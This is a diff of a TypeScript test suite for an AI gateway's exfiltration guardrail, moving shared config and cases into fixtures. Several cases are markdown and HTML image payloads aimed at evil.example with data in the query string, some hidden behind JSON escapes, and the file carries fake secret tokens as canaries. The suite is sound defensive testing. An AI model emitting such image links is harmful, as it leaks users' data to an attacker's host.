@@ -5,25 +5,19 @@
 // image on an allowed host whose query carries a foreign URL (an open redirect) is neutralised (finding 07).
 import assert from 'node:assert/strict';
 import { after, before, describe, it } from 'node:test';
-import type { CfgGuardrails } from '../../api/gateway-config.ts';
 import type { RunningGateway } from '../server.ts';
 import { newKey } from '../test/fixtures.ts';
 import { CAPTURED, installLeakScan } from '../test/harness.ts';
 import { chunk, completion, sseBody, type HostileUpstream } from '../test/hostile-upstream.ts';
-import { closeHostileGateway, guardedTenant, startHostileGateway } from '../test/hostile-gateway.ts';
+import { closeHostileGateway, guardedTenant, outputGuardrails, startHostileGateway } from '../test/hostile-gateway.ts';
+import { ESCAPED_VALUE_CASES } from '../../guardrails/test/json-cases.ts';
 
 installLeakScan();
 
 const TOKEN = 'ghp_Zq8xT4mN2bV6cR1yL9wK3jH7gF5dS0aP2eU4';
 const UPSTREAM_KEY = 'up-7f3Kq9ZxW2mB8vN4cR6tY1uP5sL0dHgJ';
 const key = newKey();
-const guardrails: CfgGuardrails = {
-  redaction: { detectors: ['secrets'], customPatterns: [] },
-  promptInjection: { mode: 'off', threshold: 0.7 },
-  exfiltration: { mode: 'neutralize', allowedHosts: ['docs.example.com'] },
-  canaries: [],
-  structuredOutput: { enforce: false },
-};
+const guardrails = outputGuardrails();
 
 let up: HostileUpstream;
 let gw: RunningGateway;
@@ -68,18 +62,7 @@ const ARGS: [string, string, Obj][] = [
   ],
   ['a markdown image', '{"md":"![x](https://evil.example/p.png?d=abc)"}', { md: '\\[image: x\\]' }],
   // hidden by JSON escapes the client decodes before it renders the value (the JSON text reading missed them)
-  ['an image behind \\/ escapes', '{"md":"![x](https:\\/\\/evil.example\\/p.png?d=abc)"}', { md: '\\[image: x\\]' }],
-  ['an image behind a \\u escape', '{"md":"![x](\\u0068ttps://evil.example/p.png?d=abc)"}', { md: '\\[image: x\\]' }],
-  [
-    'an <img> whose attribute quotes are \\" escapes',
-    '{"h":"<img src=\\"https://evil.example/p.png?d=abc\\">"}',
-    { h: '&lt;img src="https://evil.example/p.png?d=abc">' },
-  ],
-  [
-    'an image inside a code span the JSON text opens across values',
-    '{"a":"`x","b":"![i](https://evil.example/p.png?d=abc)","c":"`"}',
-    { a: '`x', b: '\\[image: i\\]', c: '`' },
-  ],
+  ...ESCAPED_VALUE_CASES,
   [
     'a plain address (left alone)',
     '{"url":"https://evil.example/c?d=hello"}',
